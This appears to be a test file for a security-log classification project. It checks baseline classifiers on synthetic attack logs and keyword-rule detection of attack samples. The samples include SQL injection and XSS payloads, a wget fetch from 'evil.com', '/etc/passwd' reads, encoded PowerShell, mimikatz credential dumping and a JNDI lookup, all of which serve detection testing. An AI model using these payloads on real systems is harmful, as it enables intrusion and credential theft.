import { describe, expect, it } from 'vitest';
import type { DatasetRecord } from '@opensoc/contracts';
import { readFileSync } from 'node:fs';
import { KEYWORD_RULES, keywordRulesBaseline, majorityBaseline, matchKeywordRule, nearestNeighbourBaseline, tfidfLogRegBaseline } from './baselines.ts';
import { SoftmaxRegression } from './softmax.ts';
import { fnv1a } from './tfidf.ts';
import { TASKS } from '@opensoc/contracts';
import { recordGold, recordLabels } from './format.ts';
import { computeTaskMetrics, taskDataFromSets } from './metrics.ts';
import { mulberry32 } from './prng.ts';

const rng = mulberry32(42);
const pick = <T>(xs: readonly T[]) => xs[Math.floor(rng() * xs.length)]!;
const ip = () => `${10 + Math.floor(rng() * 200)}.${Math.floor(rng() * 255)}.${Math.floor(rng() * 255)}.${Math.floor(rng() * 255)}`;
const paths = ['/profile', '/search', '/api/items', '/news', '/shop'];

type Kind = 'sqli' | 'xss' | 'ssh' | 'benign';
function makeLog(kind: Kind): string {
  const p = pick(paths);
  switch (kind) {
    case 'sqli':
      return `${ip()} - - [16/Mar/2025:01:05:33] "GET ${p}?id=1 ${pick(['OR 1=1--', 'UNION SELECT null,table_name FROM information_schema.tables--', 'AND SLEEP(5)--'])} HTTP/1.1" 403 ${Math.floor(rng() * 9999)} "-" "sqlmap/1.7"`;
    case 'xss':
      return `${ip()} - - [16/Mar/2025:01:05:33] "GET ${p}?q=${pick(['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(document.cookie)>'])} HTTP/1.1" 400 0 "-" "Mozilla/5.0"`;
    case 'ssh':
      return `Mar 15 01:05:33 server sshd[${Math.floor(rng() * 9999)}]: Failed password for ${pick(['root', 'admin', 'git'])} from ${ip()} port 22 ssh2`;
    case 'benign':
      return `${ip()} - - [18/Mar/2025:16:22:58] "GET ${pick(['/', '/index.html', '/about', '/static/app.js'])} HTTP/1.1" 200 ${Math.floor(rng() * 50000)} "-" "Mozilla/5.0"`;
  }
}
const LABELS: Record<Kind, Pick<DatasetRecord, 'threatCategory' | 'threatType' | 'mitreTechnique' | 'mitreTactic' | 'severity'>> = {
  sqli: { threatCategory: 'sql-injection', threatType: 'SQL Injection', mitreTechnique: 'T1190', mitreTactic: 'initial-access', severity: 'CRITICAL' },
  xss: { threatCategory: 'cross-site-scripting', threatType: 'XSS', mitreTechnique: 'T1059.007', mitreTactic: 'execution', severity: 'HIGH' },
  ssh: { threatCategory: 'brute-force', threatType: 'SSH Brute Force', mitreTechnique: 'T1110.001', mitreTactic: 'credential-access', severity: 'HIGH' },
  benign: { threatCategory: 'benign', threatType: 'Normal traffic', mitreTechnique: null, mitreTactic: null, severity: 'LOW' },
};
function makeRecords(n: number, prefix: string): DatasetRecord[] {
  const kinds: Kind[] = ['sqli', 'sqli', 'xss', 'ssh', 'benign'];
  return Array.from({ length: n }, (_, i) => {
    const kind = kinds[i % kinds.length]!;
    return { id: `${prefix}${i}`, log: makeLog(kind), source: kind === 'ssh' ? 'sshd' : 'apache-access', ...LABELS[kind], provenance: { origin: 'generated', tool: 'test' } };
  });
}
const train = makeRecords(80, 'tr');
const test = makeRecords(40, 'te');
const accuracy = (pred: ReturnType<ReturnType<typeof majorityBaseline.fit>['predict']>, task: 'threatCategory' | 'severity' | 'mitreTechnique') =>
  pred.filter((p, i) => p[task] === recordLabels(test[i]!)[task]).length / test.length;

describe('majority baseline', () => {
  it('predicts the most frequent label of each task', () => {
    const pred = majorityBaseline.fit(train).predict(test.map((r) => r.log));
    expect(pred[0]).toEqual({ threatCategory: 'sql-injection', mitreTechnique: 'T1190', mitreTechniqueParent: 'T1190', mitreTactic: 'initial-access', severity: 'CRITICAL' });
    expect(new Set(pred.map((p) => JSON.stringify(p))).size).toBe(1);
    expect(() => majorityBaseline.fit([])).toThrow();
  });
});

describe('keyword rules', () => {
  it.each([
    ['GET /search?id=1; EXEC xp_cmdshell(\'whoami\')-- HTTP/1.1', 'sql-injection'],
    ['GET /api/file?path=%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1', 'path-traversal'],
    ['GET /admin/exec?cmd=; wget http://evil.com/x HTTP/1.1', 'command-injection'],
    ['GET /diagnostic?cmd=| cat /etc/passwd HTTP/1.1', 'command-injection'],
    ['GET /read?file=../../etc/passwd&id=3 HTTP/1.1', 'path-traversal'],
    ['GET /page?file=php://input HTTP/1.1', 'path-traversal'],
    ['EventID: 4625 Description: Failed Login', 'brute-force'],
    ['EventID: 4698 Description: Scheduled Task Created', 'persistence'],
    ['powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', 'malicious-execution'],
    ['sekurlsa::logonpasswords mimikatz', 'credential-dumping'],
    ['"GET /.env HTTP/1.1" 404 0 "-" "nmap scripting engine"', 'reconnaissance'],
    ['"GET /search HTTP/1.1" 503 0 "-" "Mozilla/5.0" [10000 requests/second from this IP]', 'denial-of-service'],
    ['"GET /x HTTP/1.1" 200 100 "-" "${jndi:ldap://evil/a}"', 'web-exploit'],
  ])('%s -> %s', (log, category) => expect(matchKeywordRule(log)?.category).toBe(category));
  it('reads an unmatched log as benign and takes other labels from training', () => {
    const fitted = keywordRulesBaseline.fit(train);
    expect(fitted.predict(['GET / HTTP/1.1 200'])[0]!.threatCategory).toBe('benign');
    const pred = fitted.predict(test.map((r) => r.log));
    expect(accuracy(pred, 'threatCategory')).toBe(1);
    expect(accuracy(pred, 'mitreTechnique')).toBe(1);
  });
  it('has one rule per non-benign category at most once', () => {
    const cats = KEYWORD_RULES.map((r) => r.category);
    expect(new Set(cats).size).toBe(cats.length);
    expect(cats).not.toContain('benign');
  });
});

describe('tfidf + logistic regression', () => {
  it('hashes deterministically', () => {
    expect(fnv1a('abc')).toBe(0x1a47e90b);
  });
  it('learns every task, lowers its loss and is deterministic', () => {
    const model = tfidfLogRegBaseline({ features: 1 << 12, iterations: 60 });
    const pred = model.fit(train).predict(test.map((r) => r.log));
    expect(accuracy(pred, 'threatCategory')).toBeGreaterThanOrEqual(0.95);
    expect(accuracy(pred, 'severity')).toBeGreaterThanOrEqual(0.95);
    for (const losses of Object.values(model.lastLosses)) {
      expect(losses!.at(-1)!).toBeLessThan(losses![0]! * 0.5);
    }
    const again = tfidfLogRegBaseline({ features: 1 << 12, iterations: 60 }).fit(train).predict(test.map((r) => r.log));
    expect(again).toEqual(pred);
    expect(pred[4]!.mitreTechnique).toBeNull(); // index 4 is benign
  });
  it('rejects a feature count that is not a power of two', () => {
    expect(() => tfidfLogRegBaseline({ features: 1000 })).toThrow();
  });
});

describe('nearest neighbour', () => {
  it('copies the labels of the most similar training log', () => {
    const fitted = nearestNeighbourBaseline().fit(train);
    const pred = fitted.predict(test.map((r) => r.log));
    expect(accuracy(pred, 'threatCategory')).toBeGreaterThanOrEqual(0.95);
    expect(fitted.predict([train[7]!.log])[0]).toEqual(recordLabels(train[7]!));
  });
});

describe('partial labels', () => {
  // Severity unknown on every SQL injection record, technique unknown on one SSH record.
  const partial = train.map((r, i) => (r.threatCategory === 'sql-injection'
    ? { ...r, severity: null, unknownLabels: { severity: 'not labelled' } }
    : r.threatCategory === 'brute-force' && i < 10 ? { ...r, mitreTechnique: null, unknownLabels: { mitreTechnique: 'not labelled' } } : r));
  it('learns each task only from records labelled for it (no "unknown" class)', () => {
    for (const b of [majorityBaseline, keywordRulesBaseline, tfidfLogRegBaseline({ features: 1 << 12, iterations: 30 }), nearestNeighbourBaseline()]) {
      const pred = b.fit(partial).predict(test.map((r) => r.log));
      expect(pred.every((p) => p.severity !== null), b.name).toBe(true);
      if (b.name !== 'majority') expect(pred.filter((p, i) => test[i]!.threatCategory === 'brute-force').every((p) => p.mitreTechnique === 'T1110.001'), b.name).toBe(true);
    }
    expect(majorityBaseline.fit(partial).predict(['x'])[0]!.severity).toBe('HIGH');
  });

  it('scores every task without crashing when a baseline predicts no label for a task its training records never had (severity MAE included)', () => {
    // No training record has a severity or a technique; the test records do.
    const unlabelled = train.map((r) => ({ ...r, severity: null, mitreTechnique: null, unknownLabels: { severity: 'not labelled', mitreTechnique: 'not labelled' } }));
    const golds = test.map(recordGold);
    for (const b of [majorityBaseline, keywordRulesBaseline, tfidfLogRegBaseline({ features: 1 << 12, iterations: 30 }), nearestNeighbourBaseline()]) {
      const pred = b.fit(unlabelled).predict(test.map((r) => r.log));
      for (const task of TASKS) {
        const data = taskDataFromSets(golds.map((g) => g[task]), pred.map((p) => p[task] ?? null), pred.map(() => false));
        const m = computeTaskMetrics(task, data, { bootstrap: false });
        expect(m.n, `${b.name} ${task}`).toBe(data.gold.length);
        expect(Number.isFinite(m.accuracy), `${b.name} ${task}`).toBe(true);
        if (task === 'severity') expect(Number.isFinite(m.meanAbsoluteError), b.name).toBe(true);
      }
    }
    // The majority baseline answers N/A for severity: wrong on every labelled record, and no distance to average.
    const pred = majorityBaseline.fit(unlabelled).predict(test.map((r) => r.log));
    expect(pred.every((p) => p.severity === null)).toBe(true);
    const m = computeTaskMetrics('severity', taskDataFromSets(golds.map((g) => g.severity), pred.map((p) => p.severity), pred.map(() => false)), { bootstrap: false });
    expect(m).toMatchObject({ n: test.length, accuracy: 0, meanAbsoluteError: 0 });
  });
});

describe('SoftmaxRegression SGD', () => {
  it('converges towards the L-BFGS optimum on the same objective', () => {
    const rows = train.slice(0, 60).map((r, i) => ({ idx: Int32Array.from([i % 7, 7 + (i % 3)]), val: Float64Array.from([0.6, 0.8]) }));
    const y = Int32Array.from(rows.map((_, i) => i % 3));
    const exact = new SoftmaxRegression(3, 10).fit(rows, y, 1e-2, 500, 1e-10);
    const sgd = new SoftmaxRegression(3, 10).fitSgd(rows, y, 1e-2, 300);
    expect(sgd.losses.at(-1)!).toBeLessThan(sgd.losses[0]!);
    expect(sgd.losses.at(-1)! - exact.losses.at(-1)!).toBeLessThan(0.01);
  });
});

describe('SoftmaxRegression against scikit-learn', () => {
  const ref = JSON.parse(readFileSync(new URL('./fixtures/stats-reference.json', import.meta.url), 'utf8')).logisticRegression as { x: number[][]; y: number[]; l2: number; probabilities: number[][] };
  const rows = ref.x.map((r) => {
    const idx = r.flatMap((v, j) => (v !== 0 ? [j] : []));
    return { idx: Int32Array.from(idx), val: Float64Array.from(idx.map((j) => r[j]!)) };
  });
  it('reaches the same L2-penalised optimum (probabilities within 1e-5)', () => {
    const model = new SoftmaxRegression(3, 6).fit(rows, Int32Array.from(ref.y), ref.l2, 500, 1e-10);
    rows.forEach((row, i) => {
      const p = model.probabilities(row);
      p.forEach((v, k) => expect(Math.abs(v - ref.probabilities[i]![k]!)).toBeLessThan(1e-5));
    });
    // L-BFGS with an Armijo line search never increases the objective.
    model.losses.slice(1).forEach((l, i) => expect(l).toBeLessThanOrEqual(model.losses[i]!));
  });
});

describe('SoftmaxRegression SGD running loss', () => {
  it('reports the last epoch\'s running loss close to the exact objective after it', () => {
    const r = mulberry32(7);
    const rows = Array.from({ length: 400 }, () => {
      const idx = Int32Array.from([0, 1, 2, 3].filter(() => r() < 0.7));
      const val = Float64Array.from(idx, () => r());
      return { idx, val };
    });
    const y = Int32Array.from(rows, (row) => (row.idx.includes(0) && row.val[0]! > 0.5 ? 0 : row.idx.includes(1) ? 1 : 2));
    const running = new SoftmaxRegression(3, 4).fitSgd(rows, y, 1e-3, 40, { schedule: 'linear', initialStep: 2, exactFinalLoss: false });
    const exact = new SoftmaxRegression(3, 4).fitSgd(rows, y, 1e-3, 40, { schedule: 'linear', initialStep: 2 });
    expect(running.params).toEqual(exact.params);
    expect(running.losses[0]).toBeCloseTo(Math.log(3), 12);
    expect(Math.abs(running.losses.at(-1)! - exact.losses.at(-1)!)).toBeLessThan(0.02);
    expect(running.losses.at(-1)!).toBeLessThan(running.losses[0]!);
  });
});
